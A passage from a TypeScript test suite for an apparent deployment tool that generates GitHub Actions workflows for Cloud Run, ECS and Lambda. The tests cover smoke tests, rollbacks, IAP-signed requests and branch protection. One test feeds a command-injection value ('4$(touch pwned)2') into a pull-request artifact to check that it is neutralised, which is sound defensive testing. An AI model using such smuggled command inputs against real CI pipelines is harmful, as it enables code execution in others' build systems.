        const common = { roleArn: "r", region: "eu-west-1", repositoryUrl: "1.dkr.ecr/x", healthPath: "/health" };
        for (const [kind, outputs] of [
            [
                "ecs",
                {
                    ...common,
                    ecs: { clusterName: "c", serviceName: "s", containerName: "app", smokeFunctionName: "f-smoke", port: "8080" },
                },
            ],
            ["lambda", { ...common, lambda: { functionName: "f", aliasName: "live", url: "https://x" } }],
        ] as const) {
            const { target, variables } = github.awsDelivery<string>(outputs);
            expect(target).to.equal(kind);
            expect(Object.keys(variables).sort()).to.deep.equal([...github.variablesFor(target)].sort());
            expect(Object.values(variables).every((v) => v !== undefined)).to.equal(true);
        }
        expect(() => github.awsDelivery<string>(common)).to.throw(/exactly one of ecs or lambda/);
    });

    it("Lambda: publishes a version after the update settles, moves the alias, smoke tests, and moves it back on failure", () => {
        const steps = deploySteps("solo", "lambda");
        const deploy = steps.find((s) => s.id === "deploy").run.split("\n");
        const order = ["aws lambda get-alias", "update-function-code", "wait function-updated-v2", "publish-version"].map((c) =>
            deploy.findIndex((l: string) => l.includes(c)),
        );
        expect(
            order.every((i, n) => i >= 0 && (n === 0 || i > order[n - 1])),
            deploy.join("\n"),
        ).to.equal(true);
        expect(deploy.join("\n")).to.not.include("update-alias");
        const at = (name: string) => steps.findIndex((s) => s.name === name);
        expect(at("Check the new version before it gets traffic")).to.equal(at("Publish a version (no traffic yet)") + 1);
        expect(at("Point the alias at the new version")).to.equal(at("Check the new version before it gets traffic") + 1);
        expect(at("Smoke test the service")).to.equal(at("Point the alias at the new version") + 1);
        const rollback = steps.find((s) => s.name === "Roll back the alias to the previous version");
        expect(rollback.run).to.include('--function-version "$PREVIOUS"').and.include("exit 1");
    });

    it("Lambda: the new version answers the health path (invoked by version, as its function URL would) before the alias moves to it", () => {
        const doc = deployDoc("solo", "lambda");
        const check = doc.jobs.deploy.steps.find((s: any) => s.name === "Check the new version before it gets traffic");
        expect(check.env.VERSION).to.equal("${{ steps.deploy.outputs.version }}");
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-lambda-"));
        // aws lambda invoke … <answer file>: keep the event, write the function's answer and the CLI's metadata.
        const invoke = (answer: string, metadata = '{"StatusCode": 200}') => {
            const stub = `aws() { echo "aws $*" > "$RUNNER_TEMP/call"; echo '${answer}' > "\${@: -1}"; echo '${metadata}'; }`;
            return runAsGitHub(doc, check.run, { RUNNER_TEMP: dir, FUNCTION: "app-solo", VERSION: "7", HEALTH_PATH: "/health" }, stub);
        };
        const ok = invoke('{"statusCode": 200, "body": "ok"}');
        expect(ok.status, ok.stderr).to.equal(0);
        expect(fs.readFileSync(path.join(dir, "call"), "utf8")).to.include("lambda invoke --function-name app-solo --qualifier 7 ");
        const event = JSON.parse(fs.readFileSync(path.join(dir, "event.json"), "utf8"));
        expect(event).to.deep.include({ version: "2.0", rawPath: "/health" });
        expect(event.requestContext.http).to.deep.include({ method: "GET", path: "/health" });
        const failing = invoke('{"statusCode": 503, "body": "db down"}');
        expect(failing.status).to.not.equal(0);
        expect(failing.stdout).to.include("::error title=Version 7 answered 503::");
        const crashed = invoke('{"errorMessage": "boom"}', '{"StatusCode": 200, "FunctionError": "Unhandled"}');
        expect(crashed.status).to.not.equal(0);
        expect(crashed.stdout).to.include("::error title=Version 7 failed::");
        expect(invoke('"plain text"').status, "a non-object answer is a 200 to a function URL").to.equal(0);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("behind IAP on the service, the candidate is called with a JWT the deployer signs for exactly that URL; the token never reaches a command line", () => {
        const smoke = deploySteps("staging", "cloud-run", { smokeTest: "iap" }).find((s) => s.name === "Smoke test the new revision");
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-iap-"));
        const log = path.join(dir, "log");
        const stubs = [
            // gcloud iam service-accounts sign-jwt <claims> <out> …: keep the claims, write a token.
            `gcloud() { cp "$4" "${dir}/claims.json"; echo "header.payload.signature" > "$5"; echo "gcloud $*" >> "${log}"; }`,
            `curl() { echo "curl $*" >> "${log}"; cp "$RUNNER_TEMP/iap.header" "${dir}/sent-header"; }`,
        ].join("\n");
        const candidate = "https://rev-7-1---app-abc-uc.a.run.app";
        execFileSync("bash", ["-e", "-c", `${stubs}\n${smoke.run}`], {
            env: { ...process.env, RUNNER_TEMP: dir, CANDIDATE: candidate, DEPLOYER: "deploy@p.iam.gserviceaccount.com" },
        });
        const claims = JSON.parse(fs.readFileSync(path.join(dir, "claims.json"), "utf8"));
        expect(claims).to.include({ iss: "deploy@p.iam.gserviceaccount.com", sub: "deploy@p.iam.gserviceaccount.com" });
        expect(claims.aud, "IAP compares aud with the URL it serves").to.equal(`${candidate}/health`);
        expect(claims.exp - claims.iat).to.be.within(60, 3600);
        expect(fs.readFileSync(path.join(dir, "sent-header"), "utf8")).to.equal("Authorization: Bearer header.payload.signature\n");
        const calls = fs.readFileSync(log, "utf8");
        expect(calls).to.match(/^gcloud iam service-accounts sign-jwt .* --iam-account deploy@p\.iam\.gserviceaccount\.com/m);
        expect(calls).to.match(new RegExp(`^curl --fail .*--header @${dir}/iap.header ${candidate}/health$`, "m"));
        expect(calls).not.to.include("signature");
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("behind an edge, the revision is checked by its startup probe and the live service through the edge after the shift; a failure there rolls back", () => {
        const steps = deploySteps("production", "cloud-run", { smokeTest: "revision-ready", edgeCheck: "http" });
        const at = (n: string) => steps.findIndex((s) => s.name === n);
        expect(steps[at("Smoke test the new revision")].run).to.include("gcloud run revisions describe").and.not.include("curl");
        const edge = steps[at("Smoke test through the edge")];
        expect(at("Smoke test through the edge")).to.equal(at("Shift traffic to the new revision and remove its tag") + 1);
        expect(at("Roll back to the previous revisions")).to.be.greaterThan(at("Smoke test through the edge"));
        expect(edge.env.EDGE_URL).to.equal(`\${{ vars.${github.EDGE_URL_VARIABLE} }}`);
        const run = (curlExit: number) =>
            spawnSync("bash", ["-e", "-c", `curl() { echo "\${@: -1}"; return ${curlExit}; }\n${edge.run}`], {
                encoding: "utf8",
                env: { ...process.env, EDGE_URL: "https://shop.example.com/" },
            });
        const ok = run(0);
        expect([ok.status, ok.stdout.trim()]).to.deep.equal([0, "https://shop.example.com/health"]);
        const http = run(22);
        expect(http.status, "an HTTP error fails the step, so the rollback runs").to.equal(22);
        expect(http.stdout).to.include("::error title=Edge check failed::https://shop.example.com/health");
        const certificate = run(35);
        expect(certificate.status, "a certificate not issued yet only warns").to.equal(0);
        expect(certificate.stdout).to.include("::warning title=Edge not reachable yet::");
        const withIap = deploySteps("production", "cloud-run", { smokeTest: "revision-ready", edgeCheck: "iap" });
        expect(withIap.find((s) => s.name === "Smoke test through the edge").run)
            .to.include("sign-jwt")
            .and.include("--header @");
    });

    it("the preview comment trusts the pull request number only when that PR's head is the run's commit; forks do not share a queue", () => {
        const doc = parse(github.workflowFiles(settings("production"), true)[".github/workflows/runway-preview-comment.yml"]);
        const steps = doc.jobs.comment.steps;
        const match = steps.find((s: any) => s.id === "pr");
        expect(match.env.HEAD_SHA).to.equal("${{ github.event.workflow_run.head_sha }}");
        expect(match.env.HEAD_REPOSITORY).to.equal("${{ github.event.workflow_run.head_repository.full_name }}");
        expect(doc.concurrency.group).to.include("github.event.workflow_run.head_repository.full_name");
        const sticky = steps.find((s: any) => String(s.uses).startsWith("marocchino/sticky-pull-request-comment"));
        expect(sticky.if).to.equal("steps.pr.outputs.number != ''");
        expect(sticky.with.number).to.equal("${{ steps.pr.outputs.number }}");
        // The number the artifact names, against a stub gh that answers "<head sha> <head repository>" for PR 42.
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-comment-"));
        fs.mkdirSync(path.join(dir, "preview"));
        const post = (artifact: string, answer: string) => {
            fs.writeFileSync(path.join(dir, "preview", "pr-number"), artifact);
            fs.rmSync(path.join(dir, "out"), { force: true });
            const r = spawnSync(
                "bash",
                ["--noprofile", "--norc", "-eo", "pipefail", "-c", `gh() { echo "$2" >> calls; echo "${answer}"; }\n${match.run}`],
                {
                    cwd: dir,
                    encoding: "utf8",
                    env: {
                        ...process.env,
                        GITHUB_OUTPUT: path.join(dir, "out"),
                        REPO: "acme/shop",
                        HEAD_SHA: "abc123",
                        HEAD_REPOSITORY: "fork/shop",
                    },
                },
            );
            return {
                status: r.status,
                stdout: r.stdout,
                posts: fs.existsSync(path.join(dir, "out")) ? fs.readFileSync(path.join(dir, "out"), "utf8").trim() : "",
            };
        };
        expect(post("42\n", "abc123 fork/shop")).to.deep.include({ status: 0, posts: "number=42" });
        expect(fs.readFileSync(path.join(dir, "calls"), "utf8").trim()).to.equal("repos/acme/shop/pulls/42");
        // Injection in the artifact reaches the API only as digits.
        expect(post("4$(touch pwned)2", "abc123 fork/shop").posts).to.equal("number=42");
        expect(fs.existsSync(path.join(dir, "pwned"))).to.equal(false);
        // Another pull request (or one that moved on): nothing is posted, and the run is not red.
        for (const answer of ["fff999 fork/shop", "abc123 other/shop"]) {
            const stale = post("42", answer);
            expect(stale, answer).to.deep.include({ status: 0, posts: "" });
            expect(stale.stdout).to.include("::notice title=Not posted::");
        }
        expect(post("no digits", "abc123 fork/shop").status, "no number: a failure").to.not.equal(0);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("a run superseded by a newer push (cancelled) posts nothing and does not fail", () => {
        const doc = parse(github.workflowFiles(settings("production"), true)[".github/workflows/runway-preview-comment.yml"]);
        expect(doc.on.workflow_run.types).to.deep.equal(["completed"]);
        expect(doc.jobs.comment.if).to.equal(
            "github.event.workflow_run.event == 'pull_request' && github.event.workflow_run.conclusion != 'cancelled'",
        );
    });

    it("the offline plan's comment never waits for a preview approval: the approval-gated pulumi preview is a workflow of its own", () => {
        for (const tier of ["solo", "production"]) {
            const files = github.workflowFiles(settings(tier), true);
            const comment = parse(files[".github/workflows/runway-preview-comment.yml"]);
            // The comment runs when every job of the workflows it names has completed: none of them may wait in an environment.
            const waitedFor = Object.entries(files).filter(
                ([f, c]) => isWorkflow(f) && comment.on.workflow_run.workflows.includes(parse(c).name),
            );
            expect(waitedFor.map(([f]) => f)).to.deep.equal([".github/workflows/runway-preview.yml"]);
            for (const [id, job] of Object.entries<any>(jobsOf(waitedFor[0][1]))) {
                expect(job.environment, `${tier} ${id}`).to.equal(undefined);
                expect(job.permissions, `${tier} ${id}`).to.deep.equal({ contents: "read" });
            }
            const real = jobsOf(files[".github/workflows/runway-pulumi-preview.yml"])["pulumi-preview"];
            expect(real.environment).to.equal("runway-preview-${{ matrix.stack }}");
            expect(real.strategy.matrix.stack).to.deep.equal(settings(tier).previewStacks);
        }
    });

    it("workflows name the real stack: a stack not named after its tier plans, previews and deploys itself; stack == tier keeps its files byte for byte", () => {
        const named = (tier: string, stack: string) =>
            settings(tier, { stack, previewStacks: github.deliveryFor(tier as "solo", "main", "staging", stack).previewStacks });
        const dev = github.workflowFiles(named("solo", "myapp-dev"), true);
        expect(Object.keys(dev).filter((f) => f.includes("deploy-"))).to.deep.equal([".github/workflows/deploy-myapp-dev.yml"]);
        expect(parse(dev[".github/workflows/deploy-myapp-dev.yml"]).name).to.equal("deploy-myapp-dev");
        const offline = parse(dev[".github/workflows/runway-preview.yml"]).jobs.plan.steps;
        for (const step of offline.filter((s: any) => String(s.run).includes("runway-iac plan")))
            expect(step.run, step.name)
                .to.include("for stack in myapp-dev; do")
                .and.not.match(/\bsolo\b/);
        const real = jobsOf(dev[".github/workflows/runway-pulumi-preview.yml"])["pulumi-preview"];
        expect(real.strategy.matrix.stack).to.deep.equal(["myapp-dev"]);
        const comment = jobsOf(dev[".github/workflows/runway-preview-comment.yml"]).comment.steps.at(-1);
        expect(comment.with).to.include({ header: "runway-preview-myapp-dev", path: "preview/myapp-dev.md" });
        expect(parse(dev[".github/dependabot.yml"]).updates[0]["exclude-paths"]).to.include(".github/workflows/deploy-myapp-dev.yml");
        // Two stacks of one tier in one repository never write one path.
        const other = github.workflowFiles(named("solo", "myapp-demo"), false);
        expect(Object.keys(other)).to.deep.equal([".github/workflows/deploy-myapp-demo.yml"]);
        // A production stack named prod previews itself by name, and staging by its tier.
        expect(github.deliveryFor("production", "main", "staging", "prod").previewStacks).to.deep.equal(["staging", "prod"]);
        // Existing stacks named after their tier see no change: same paths, same content, same branch.
        for (const tier of TIERS) {
            const before = github.workflowFiles(settings(tier), true);
            expect(github.workflowFiles(named(tier, tier), true), tier).to.deep.equal(before);
            expect(github.workflowsBranch(tier, before)).to.match(new RegExp(`^runway/workflows-${tier}-[0-9a-f]{10}$`));
        }
    });

    it("generated workflows are runway-* files and names: a user's own ci.yml or a workflow named preview is never overwritten or mistaken", () => {
        for (const [file, content] of allFiles()) {
            const name = String(parse(content).name);
            if (/\/deploy-\w+\.yml$/.test(file)) continue; // the deploy workflows keep the path the solo deployer trusts
            expect(file, file).to.match(/\/\.github\/workflows\/runway-[\w-]+\.yml$/);
            expect(name, file).to.match(/^runway-/);
            expect(path.basename(file, ".yml"), file).to.equal(name);
        }
        const comment = parse(github.workflowFiles(settings("production"), true)[".github/workflows/runway-preview-comment.yml"]);
        expect(comment.on.workflow_run.workflows).to.deep.equal(["runway-preview"]);
    });

    it("each previewed stack gets its own comment: its own file, its own sticky header, a 'could not run' body when its plan fails", () => {
        const files = github.workflowFiles(settings("production"), true);
        const stacks = settings("production").previewStacks;
        expect(stacks.length).to.be.greaterThan(1);
        const comment = parse(files[".github/workflows/runway-preview-comment.yml"]);
        const stickies = comment.jobs.comment.steps.filter((s: any) => String(s.uses).startsWith("marocchino/sticky-pull-request-comment"));
        expect(stickies.map((s: any) => [s.with.header, s.with.path])).to.deep.equal(
            stacks.map((stack) => [`runway-preview-${stack}`, `preview/${stack}.md`]),
        );
        // The plan step, with npx answering a plan for the first stack and failing (exit 2) for the others.
        const preview = parse(files[".github/workflows/runway-preview.yml"]);
        const plan = preview.jobs.plan.steps.find((s: any) => s.name === "Plan this pull request");
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-preview-"));
        fs.mkdirSync(path.join(dir, "preview"));
        const stubs = [
            `npx() { echo "npx $*" >> "$RUNNER_TEMP/calls"; if [ "$5" = ${stacks[0]} ]; then echo "## plan of $5"; else echo "program error: bad key" >&2; return 2; fi; }`,
            'node() { echo "node $*" >> "$RUNNER_TEMP/calls"; echo "## $2 could not run: $(cat)"; }',
        ].join("\n");
        const r = runAsGitHub(
            preview,
            plan.run,
            { RUNNER_TEMP: dir, PR_NUMBER: "7", GITHUB_STEP_SUMMARY: path.join(dir, "summary") },
            stubs,
        );
        expect(r.status, r.stderr).to.equal(0);
        const calls = fs.readFileSync(path.join(dir, "calls"), "utf8").trim().split("\n");
        // Each comment is cut for the sticky header it is posted under.
        expect(calls[0]).to.equal(
            `npx --no-install runway-iac plan --stack ${stacks[0]} --markdown --comment-header runway-preview-${stacks[0]}`,
        );
        expect(calls).to.include(`node node_modules/runway-iac/action/crash.js ${stacks[1]}`);
        expect(fs.readFileSync(path.join(dir, "preview", `${stacks[0]}.md`), "utf8")).to.equal(`## plan of ${stacks[0]}\n`);
        expect(fs.readFileSync(path.join(dir, "preview", `${stacks[1]}.md`), "utf8")).to.equal(
            `## ${stacks[1]} could not run: program error: bad key\n`,
        );
        expect(fs.readFileSync(path.join(dir, "summary"), "utf8"))
            .to.include(`## plan of ${stacks[0]}`)
            .and.include("could not run");
        expect(fs.readFileSync(path.join(dir, "plan-codes"), "utf8")).to.equal(
            `0\n${stacks
                .slice(1)
                .map(() => "2\n")
                .join("")}`,
        );
        expect(fs.readFileSync(path.join(dir, "preview", "pr-number"), "utf8")).to.equal("7\n");
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("a comment cut to GitHub's size points to the whole plan, which the job summary (in a safe fence) and the artifact (--json) then hold", () => {
        expect(github.CUT_COMMENT_POINTER).to.equal(`see ${FULL_PLAN_AT}`);
        const preview = parse(github.workflowFiles(settings("production"), true)[".github/workflows/runway-preview.yml"]);
        const plan = preview.jobs.plan.steps.find((s: any) => s.name === "Plan this pull request");
        const stacks = settings("production").previewStacks;
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-cut-"));
        fs.mkdirSync(path.join(dir, "preview"));
        // The first stack's comment was cut; its text plan holds a run of three backticks; the second stack's was not cut.
        const stubs = [
            "npx() {",
            `  if [ "$5" = ${stacks[0]} ] && [ "$6" = --markdown ]; then echo "## cut: … 12 more rows: ${github.CUT_COMMENT_POINTER}."; return 0; fi`,
            '  if [ "$6" = --markdown ]; then echo "## whole"; return 0; fi',
            '  if [ "$6" = --json ]; then echo \'{"resources": []}\'; return 1; fi',
            "  printf 'line one\\nA ``` B\\n'; return 1",
            "}",
        ].join("\n");
        const summary = path.join(dir, "summary");
        const r = runAsGitHub(preview, plan.run, { RUNNER_TEMP: dir, PR_NUMBER: "7", GITHUB_STEP_SUMMARY: summary }, stubs);
        expect(r.status, r.stderr).to.equal(0);
        const text = fs.readFileSync(summary, "utf8");
        expect(text).to.include(`### The whole plan of ${stacks[0]}\n\n\`\`\`\`\nline one\nA \`\`\` B\n\`\`\`\`\n`);
        expect(text).to.not.include(`### The whole plan of ${stacks[1]}`);
        expect(JSON.parse(fs.readFileSync(path.join(dir, "preview", `${stacks[0]}.json`), "utf8"))).to.deep.equal({ resources: [] });
        expect(fs.existsSync(path.join(dir, "preview", `${stacks[1]}.json`))).to.equal(false);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("every generated workflow runs its scripts with bash -eo pipefail: a cloud CLI that fails inside a pipeline, or answers None, fails its step", () => {
        for (const [file, content] of allFiles()) expect(parse(content).defaults, file).to.deep.equal({ run: { shell: "bash" } });
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-pipefail-"));
        const env = {
            GITHUB_OUTPUT: path.join(dir, "out"),
            RUNNER_TEMP: dir,
            SERVICE: "app",
            REGION: "us-central1",
            CLUSTER: "c",
            TAG: "rev-1-1",
        };
        // Cloud Run: gcloud deploys, then every describe fails (the API went away): the step must not record empty outputs.
        const cloudRun = deployDoc("production", "cloud-run");
        const deploy = cloudRun.jobs.deploy.steps.find((s: any) => s.id === "deploy");
        const failingDescribe =
            'gcloud() { if [ "$3" = describe ]; then echo "ERROR: (gcloud.run.services.describe) 503" >&2; return 1; fi; }';
        const r1 = runAsGitHub(cloudRun, deploy.run, env, failingDescribe);
        expect(r1.status, "a failed describe fails the deploy step").to.not.equal(0);
        // ECS: a wrong service name makes the CLI print None and exit 0.
        const ecs = deployDoc("production", "ecs");
        const current = ecs.jobs.deploy.steps.find((s: any) => s.id === "current");
        const r2 = runAsGitHub(ecs, current.run, env, "aws() { echo None; }");
        expect(r2.status).to.not.equal(0);
        expect(r2.stdout).to.include("::error title=No ECS service app in c::answered 'None'");
        // Lambda: an alias that does not exist (None) stops the deploy before anything changes.
        const lambda = deployDoc("solo", "lambda");
        const publish = lambda.jobs.deploy.steps.find((s: any) => s.id === "deploy");
        fs.rmSync(path.join(dir, "calls"), { force: true });
        const r3 = runAsGitHub(
            lambda,
            publish.run,
            { ...env, FUNCTION: "f", ALIAS: "live" },
            `aws() { echo "$*" >> "${dir}/calls"; echo None; }`,
        );
        expect(r3.status).to.not.equal(0);
        expect(fs.readFileSync(path.join(dir, "calls"), "utf8").trim().split("\n")).to.have.length(1);
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("Cloud Run: logs in to the registry's own host, whatever region the service runs in", () => {
        const doc = deployDoc("production", "cloud-run");
        const login = doc.jobs.deploy.steps.find((s: any) => s.name === "Log in to Artifact Registry");
        for (const [repository, host] of [
            ["us-docker.pkg.dev/acme/images/app", "us-docker.pkg.dev"],
            ["europe-west1-docker.pkg.dev/acme/app/app", "europe-west1-docker.pkg.dev"],
        ]) {
            const r = runAsGitHub(doc, login.run, { REPOSITORY: repository, REGION: "us-central1" }, 'gcloud() { echo "$*"; }');
            expect(r.stdout.trim()).to.equal(`auth configure-docker ${host} --quiet`);
        }
        expect(doc.jobs.deploy.env.REPOSITORY).to.equal(
            `\${{ vars.${github.VARIABLES.registry} }}/\${{ vars.${github.VARIABLES.service} }}`,
        );
    });

    it("Cloud Run: the checked revision gets all traffic as LATEST (later pulumi up changes go live), unless another revision was created meanwhile", () => {
        const doc = deployDoc("production", "cloud-run");
        const promote = doc.jobs.deploy.steps.find((s: any) => s.name === "Shift traffic to the new revision and remove its tag");
        expect(promote.env.REVISION).to.equal("${{ steps.deploy.outputs.revision }}");
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "runway-promote-"));
        const run = (latest: string) => {
            fs.rmSync(path.join(dir, "calls"), { force: true });
            const stub = `gcloud() { echo "$*" >> "${dir}/calls"; if [ "$3" = describe ]; then echo '{"status":{"latestCreatedRevisionName":"${latest}"}}'; fi; }`;
            const r = runAsGitHub(
                doc,
                promote.run,
                { SERVICE: "app", REGION: "us-central1", TAG: "rev-7-1", REVISION: "app-00007-abc" },
                stub,
            );
            return { status: r.status, stdout: r.stdout, calls: fs.readFileSync(path.join(dir, "calls"), "utf8").trim().split("\n") };
        };
        const ok = run("app-00007-abc");
        expect(ok.status).to.equal(0);
        expect(ok.calls.slice(1)).to.deep.equal([
            "run services update-traffic app --region us-central1 --to-latest --quiet",
            "run services update-traffic app --region us-central1 --remove-tags rev-7-1 --quiet",
        ]);
        const raced = run("app-00008-xyz");
        expect(raced.status, "a revision nobody checked never gets traffic").to.not.equal(0);
        expect(raced.calls.filter((c) => c.includes("update-traffic"))).to.deep.equal([]);
        expect(raced.stdout).to.include("::error title=Another revision was created::");
        fs.rmSync(dir, { recursive: true, force: true });
    });

    it("branch protection requires exactly the check names the ci jobs report", () => {
        const ci = jobsOf(github.workflowFiles(settings("production"), true)[".github/workflows/runway-ci.yml"]);
        expect(
            Object.values<any>(ci)
                .map((j) => j.name)
                .sort(),
        ).to.deep.equal([...github.REQUIRED_CHECKS].sort());
    });
});

describe("github.Repository under the mock runtime", () => {
    const variables = { RUNWAY_SERVICE: "app" };

    it("production: environment with reviewers and a default-branch-only policy, variables in the environment, protected default branch", async () => {
        const run = await record(
            () =>
                new github.Repository("repo", {
                    owner: "acme",
                    repo: "shop",
                    delivery: settings("production"),
                    variables,
                    reviewers: ["ana"],
                }),
        );
        const env = one(run, "github:index/repositoryEnvironment:RepositoryEnvironment", "repo-environment");
        expect(env.inputs.environment).to.equal("production");
        expect((env.inputs.reviewers as any)[0].users)
            .to.have.length(1)
            .and.satisfy((ids: unknown[]) => ids.every((id) => typeof id === "number"));
        expect(env.inputs.deploymentBranchPolicy).to.deep.equal({ protectedBranches: false, customBranchPolicies: true });
        expect(
            one(run, "github:index/repositoryEnvironmentDeploymentPolicy:RepositoryEnvironmentDeploymentPolicy", "repo-environment-branch")
                .inputs.branchPattern,
        ).to.equal("main");
        expect(
            ofType(run, "github:index/actionsEnvironmentVariable:ActionsEnvironmentVariable").map((v) => [
                v.inputs.environment,
                v.inputs.variableName,
            ]),
        ).to.deep.equal([["production", "RUNWAY_SERVICE"]]);
        const protection = one(run, "github:index/branchProtection:BranchProtection", "repo-default-branch");
        expect(protection.inputs).to.deep.include({
            pattern: "main",
            allowsForcePushes: false,
            requiredStatusChecks: [{ strict: true, contexts: ["Lint", "Test", "Security"] }],
        });
        expect(
            ofType(run, "github:index/repositoryFile:RepositoryFile")
                .map((f) => f.inputs.file)
                .sort(),
        ).to.deep.equal([
            ".github/dependabot.yml",
            ".github/workflows/deploy-production.yml",
            ".github/workflows/runway-ci.yml",
            ".github/workflows/runway-preview-comment.yml",
            ".github/workflows/runway-preview.yml",
            ".github/workflows/runway-pulumi-preview.yml",
        ]);
        expect(
            ofType(run, "github:index/repositoryFile:RepositoryFile").every((f) => f.provider?.includes("pulumi:providers:github")),
        ).to.equal(true);
    });

    it("prevents self-review only with two or more reviewers: a lone reviewer who merged could never approve the deploy", async () => {
        const production = (reviewers: string[]) =>
            record(
                () =>
                    new github.Repository("repo", { owner: "acme", repo: "shop", delivery: settings("production"), variables, reviewers }),
            );
        const alone = await production(["ana"]);
        expect(one(alone, "github:index/repositoryEnvironment:RepositoryEnvironment", "repo-environment").inputs).to.include({
            preventSelfReview: false,
            canAdminsBypass: false,
        });
        expect(alone.diagnostics.join("\n")).to.match(
            /production: with one reviewer \(ana\), GitHub cannot also prevent self-review[\s\S]*Add a second runway:githubReviewers entry/,
        );
        const pair = await production(["ana", "bo"]);
        expect(one(pair, "github:index/repositoryEnvironment:RepositoryEnvironment", "repo-environment").inputs).to.include({
            preventSelfReview: true,
            canAdminsBypass: false,
        });
        expect(pair.diagnostics.join("\n")).not.to.include("prevent self-review");
    });

    it("solo: repository variables and no environment; staging: leaves repository settings to production", async () => {
        const solo = await record(
            () =>
                new github.Repository("repo", { owner: "acme", repo: "shop", delivery: settings("solo"), variables, requiredApprovals: 0 }),
        );
        expect(ofType(solo, "github:index/repositoryEnvironment:RepositoryEnvironment")).to.deep.equal([]);
        expect(ofType(solo, "github:index/actionsVariable:ActionsVariable").map((v) => v.inputs.variableName)).to.deep.equal([
            "RUNWAY_SERVICE",
        ]);
        const staging = await record(
            () =>
                new github.Repository("repo", {
                    owner: "acme",
                    repo: "shop",
                    delivery: settings("staging"),
                    variables,
                    manageRepository: false,
                }),
        );
        // Staging protects only its own deploy branch (next test); the default branch is production's.
        expect(ofType(staging, "github:index/branchProtection:BranchProtection").map((p) => p.inputs.pattern)).to.deep.equal(["staging"]);
        expect(ofType(staging, "github:index/repositoryFile:RepositoryFile").map((f) => f.inputs.file)).to.deep.equal([
            ".github/workflows/deploy-staging.yml",
        ]);
    });

    it("staging: only reviewed pull requests change the branch its environment deploys, so a push cannot run an unreviewed workflow as the deployer", async () => {
        const staging = (extra: Partial<github.RepositoryArgs> = {}) =>
            record(
                () =>
                    new github.Repository("repo", {
                        owner: "acme",
                        repo: "shop",
                        delivery: settings("staging"),
                        variables,
                        manageRepository: false,
                        ...extra,
                    }),
            );
        const protection = one(await staging(), "github:index/branchProtection:BranchProtection", "repo-deploy-branch");
        expect(protection.inputs).to.deep.include({
            repositoryId: "shop",
            pattern: "staging",
            enforceAdmins: true,
            allowsForcePushes: false,
            allowsDeletions: false,
            requiredPullRequestReviews: [{ requiredApprovingReviewCount: 1, dismissStaleReviews: true }],
        });
        // The environment admits exactly that branch: protecting it closes the way around the review.
        const run = await staging({ requiredApprovals: 2 });
        expect(
            one(run, "github:index/repositoryEnvironmentDeploymentPolicy:RepositoryEnvironmentDeploymentPolicy", "repo-environment-branch")
                .inputs.branchPattern,
        ).to.equal("staging");
        expect(
            one(run, "github:index/branchProtection:BranchProtection", "repo-deploy-branch").inputs.requiredPullRequestReviews,
        ).to.deep.equal([{ requiredApprovingReviewCount: 2, dismissStaleReviews: true }]);
        expect(ofType(await staging({ protectDeployBranch: false }), "github:index/branchProtection:BranchProtection")).to.deep.equal([]);
        // Production and solo deploy the default branch, which the repository-wide protection covers.
        const production = await record(
            () =>
                new github.Repository("repo", {
                    owner: "acme",
                    repo: "shop",
                    delivery: settings("production"),
                    variables,
                    reviewers: ["ana", "bo"],
                }),
        );
        expect(ofType(production, "github:index/branchProtection:BranchProtection").map((p) => p.name)).to.deep.equal([
            "repo-default-branch",
        ]);
    });

    it("commits workflow files to a branch named by their digest, created from the default branch, never to the protected branch", async () => {
        const run = await record(
            () =>
                new github.Repository("repo", {
                    owner: "acme",
                    repo: "shop",
                    delivery: settings("production"),
                    variables,
                    reviewers: ["ana"],
                }),
        );
        const branch = one(run, "github:index/branch:Branch", "repo-workflows-branch");
        // The Repository keeps the image for the approval window: its reviewers make the deploy a reviewed one.
        const name = github.workflowsBranch("production", github.workflowFiles(settings("production", { reviewedDeploy: true }), true));
        expect(name).to.match(/^runway\/workflows-production-[0-9a-f]{10}$/);
        expect(branch.inputs).to.deep.include({ branch: name, sourceBranch: "main" });
        expect(branch.retainOnDelete, "a merged branch may already be gone: never delete it").to.equal(true);
        for (const file of ofType(run, "github:index/repositoryFile:RepositoryFile")) {
            expect(file.inputs.branch, String(file.inputs.file)).to.equal(name);
            expect(file.dependencies, String(file.inputs.file)).to.include(branch.urn);
            expect(file.retainOnDelete, String(file.inputs.file)).to.equal(true);
        }
        // No protection on it: a merged branch is deleted like any other (a kept one would pile up).
        expect(ofType(run, "github:index/branchProtection:BranchProtection").map((p) => p.inputs.pattern)).to.deep.equal(["main"]);
        const staging = await record(
            () =>
                new github.Repository("repo", {
                    owner: "acme",
                    repo: "shop",
                    delivery: settings("staging"),
                    variables,
                    manageRepository: false,
                }),
        );
        expect(ofType(staging, "github:index/repositoryFile:RepositoryFile").map((f) => f.inputs.branch)).to.deep.equal([
            github.workflowsBranch("staging", github.workflowFiles(settings("staging"), false)),
        ]);
        expect(github.compareUrl("acme", "shop", "main", name)).to.equal(`https://github.com/acme/shop/compare/main...${name}?expand=1`);
    });

    describe("the workflow files survive every merge method GitHub offers (a real git repository plays GitHub)", function () {
        this.timeout(60000);
        const gitIn =
            (dir: string) =>
            (...args: string[]) =>
                execFileSync(
                    "git",
                    ["-c", "user.name=runway", "-c", "user.email=runway@example.com", "-c", "commit.gpgsign=false", ...args],
                    {
                        cwd: dir,
                        encoding: "utf8",
                        stdio: ["ignore", "pipe", "pipe"],
                    },
                );
        interface Planned {
            branch: string;
            source: string;
            replaceOnChanges: string[];
            files: Record<string, string>;
        }
        /** What `pulumi up` of a solo stack with this health path registers: the branch (and its options) and the files. */
        async function planned(healthPath: string): Promise<Planned> {
            const options: Record<string, string[]> = {};
            const run = await record(
                () =>
                    new github.Repository(
                        "repo",
                        { owner: "acme", repo: "shop", delivery: settings("solo", { healthPath }), variables: {}, requiredApprovals: 0 },
                        {
                            transformations: [
                                (t) => {
                                    options[t.name] = t.opts.replaceOnChanges ?? [];
                                    return undefined;
                                },
                            ],
                        },
                    ),
